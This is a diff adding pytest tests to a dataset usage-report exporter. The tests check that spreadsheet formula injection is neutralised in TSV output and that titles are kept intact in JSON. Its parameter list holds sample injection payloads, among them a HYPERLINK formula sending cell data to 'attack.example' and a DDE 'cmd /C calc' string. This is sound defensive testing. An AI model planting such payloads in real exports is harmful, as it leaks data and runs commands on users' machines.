@@ -2,6 +2,7 @@
 
 import csv
 import datetime as dt
+import io
 import json
 from dataclasses import replace
 from pathlib import Path
@@ -325,6 +326,49 @@ def test_the_tabular_form_has_every_header_and_every_mandatory_column() -> None:
         assert int(row["Reporting_Period_Total"]) == int(row["Feb-2022"]) > 0
 
 
+def of_title(title: str) -> tuple[list[Usage], Registry]:
+    """The use of a dataset whose title and creator are a text, as is the author."""
+    known = sample_registry()
+    about = replace(known.datasets[0], title=title, creators=(title,))
+    usage = [replace(item, dataset=about) for item in month_of(LOG)]
+    return usage, replace(known, datasets=(about,), created_by=title)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("https://attack.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_no_cell_of_the_tabular_form_is_a_formula_and_the_json_has_the_text(
+    formula: str,
+) -> None:
+    usage, registry = of_title(formula)
+    text = as_tsv(usage, registry, Month(FEBRUARY[0], FEBRUARY), TODAY)
+    lines = [*csv.reader(io.StringIO(text, newline=""), delimiter="\t")]
+    shown = f"'{formula.strip()}"
+    assert lines[9] == ["Created_By", shown]
+    for line in lines[12:]:
+        row = dict(zip(lines[11], line, strict=True))
+        assert row["Dataset_Title"] == row["Creators"] == shown
+        assert row["Reporting_Period_Total"].isdigit()
+    (dataset,) = report(usage, registry)["report-datasets"]
+    assert dataset["dataset-title"] == formula
+
+
+def test_a_title_with_such_a_sign_inside_is_as_it_was() -> None:
+    usage, registry = of_title("Rivers = levels - @ 3 + gauges")
+    text = as_tsv(usage, registry, Month(FEBRUARY[0], FEBRUARY), TODAY)
+    assert "\nRivers = levels - @ 3 + gauges\t" in text
+
+
 @pytest.mark.parametrize(
     ("kind", "value", "shown"),
     [
@@ -346,3 +390,10 @@ def test_a_publisher_is_named_with_the_kind_of_its_id(
     month = Month(FEBRUARY[0], FEBRUARY)
     text = as_tsv(usage, replace(known, datasets=datasets), month, TODAY)
     assert list(csv.reader(text.splitlines(), delimiter="\t"))[12][2] == shown
+
+
+def test_a_title_over_two_lines_is_one_cell_of_one_line() -> None:
+    usage, registry = of_title("Rivers\r\nand\ttheir levels\r")
+    text = as_tsv(usage, registry, Month(FEBRUARY[0], FEBRUARY), TODAY)
+    assert "\r" not in text
+    assert "\nRivers and their levels\t" in text
